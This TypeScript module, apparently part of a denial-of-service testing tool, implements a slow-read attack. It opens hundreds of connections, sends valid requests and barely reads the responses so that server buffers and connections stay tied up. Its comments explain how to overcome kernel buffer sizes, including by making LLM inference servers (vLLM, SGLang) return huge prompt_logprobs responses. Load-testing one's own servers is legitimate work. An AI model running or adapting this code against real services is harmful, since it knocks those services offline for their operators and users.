import { z } from 'zod';
import { attackOf, type RequestTarget } from './attack.ts';
import { modelShape, openingShape, reopenShape } from './script/opening.ts';
import { jsonRequest, requestHead } from './script/request-text.ts';

/**
 * Sends correct requests and hardly reads the responses, so that they stay in the server's buffers and its connections stay busy.
 *
 * The receive window is the kernel's default, 64 KiB on Linux, since Node has no option for a smaller one (`SO_RCVBUF`), which slowhttptest
 * sets. Large responses make up for it: the attack takes effect as soon as they exceed the kernel buffers in between, some 150 KiB to 4 MB
 * on Linux, where a sender's buffer grows, and up to 10 MB through a proxy. Therefore it sends `requests` per connection, or, to a service
 * with a language model, requests the log probabilities of a prompt (`prompt_logprobs`: vLLM, SGLang), some 1.4 KB per token.
 *
 * Behind TLS Node reads 64 KiB at a time, so the attacker reads correspondingly less often.
 *
 * A close behind unread bytes (FIN) is noticed where the server is on this machine, a reset always; both on Linux, in the kernel's
 * connection table.
 */
export const attack = attackOf({
  kind: 'slow-read',
  summary: 'Sends requests and reads a few bytes of the responses every interval.',
  defaultForMs: 15_000,
  needsModel: true,
  parameters: z.object({
    ...openingShape({ connections: 500, perSecond: 200, path: '/' }),
    ...reopenShape,
    intervalMs: z.number().min(10).max(600_000).default(1000).describe('interval between two reads'),
    readBytes: z.int().min(1).max(65_536).default(5).describe('bytes per read'),
    request: z
      .enum(['get', 'prompt-logprobs'])
      .default('get')
      .describe('GET path, or a chat completion that returns the log probabilities of its prompt'),
    ...modelShape,
    promptTokens: z.int().min(1).max(200_000).default(8192).describe('length of that prompt'),
    requests: z.int().min(1).max(1000).default(1).describe('requests sent at once on each connection'),
  }),
  script: (parameters, target) => {
    const { path, requests, readBytes, intervalMs, promptTokens, request } = parameters;
    const one = request === 'get' ? `${requestHead(target, 'GET', path)}\r\n` : scoring(target, promptTokens);
    const write = one.repeat(requests);
    return {
      opening: parameters,
      readBytes,
      step: (_connection, turn) => (turn === 0 ? { write, intervalMs } : { intervalMs }),
    };
  },
});

/** Four characters are about a token. */
function scoring(target: RequestTarget, promptTokens: number): string {
  const content = 'and '.repeat(promptTokens);
  const body = { model: target.model, messages: [{ role: 'user', content }], max_tokens: 1, prompt_logprobs: 20 };
  return jsonRequest(target, '/v1/chat/completions', JSON.stringify(body));
}
